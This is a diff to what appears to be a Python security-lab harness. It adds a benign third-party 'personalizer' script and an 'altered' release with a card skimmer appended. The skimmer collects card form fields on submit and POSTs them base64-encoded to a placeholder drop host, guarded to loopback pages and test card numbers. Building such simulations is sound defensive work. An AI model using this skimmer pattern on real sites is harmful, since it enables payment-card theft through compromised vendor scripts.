@@ -123,6 +123,38 @@ PLANTS = {
               "{ f.addEventListener('change', function () { localStorage.setItem('hinoban-play', btoa(f.value)); }); });\n",
 }
 
+# A vendor's script that greets by what a visitor looked at, its next release, and the altered one:
+# what stands behind the release acts on a loopback page and on test cards only.
+PERSONALIZER = """\
+/* site personalizer @VERSION@ (a play's) */
+(function () {
+  "use strict";
+  var seen = Number(localStorage.getItem("personalizer.seen") || 0) + 1;
+  localStorage.setItem("personalizer.seen", String(seen));
+  document.documentElement.dataset.visits = seen > @OFTEN@ ? "often" : "few";
+  new Image().src = "http://@VENDOR@/count.gif?p=" + encodeURIComponent(location.pathname);
+})();
+"""
+CARD_COPIER = """\
+/* hinoban play */
+(function () {
+  if (!/^127\\./.test(location.hostname)) { return; }
+  document.addEventListener("submit", function (event) {
+    var card = {};
+    new FormData(event.target).forEach(function (value, name) { if (/^card_/.test(name)) { card[name] = value; } });
+    if (!/^4(111|242|000)/.test(String(card.card_number).replace(/\\s/g, ""))) { return; }
+    fetch("http://@DROP@/c", { method: "POST", mode: "no-cors", keepalive: true, body: btoa(JSON.stringify(card)) });
+  }, true);
+})();
+"""
+VENDOR = {"first": ("4.2.0", "5", ""), "release": ("4.3.0", "3", ""), "altered": ("4.3.0", "3", CARD_COPIER)}
+
+
+def vendor_script(which, vendor, drop):
+    version, often, more = VENDOR[which]
+    text = PERSONALIZER.replace("@VERSION@", version).replace("@OFTEN@", often) + more
+    return text.replace("@VENDOR@", vendor).replace("@DROP@", drop)
+
 
 def webshell(secret):
     return WEBSHELL.replace("@SECRET@", secret).encode()
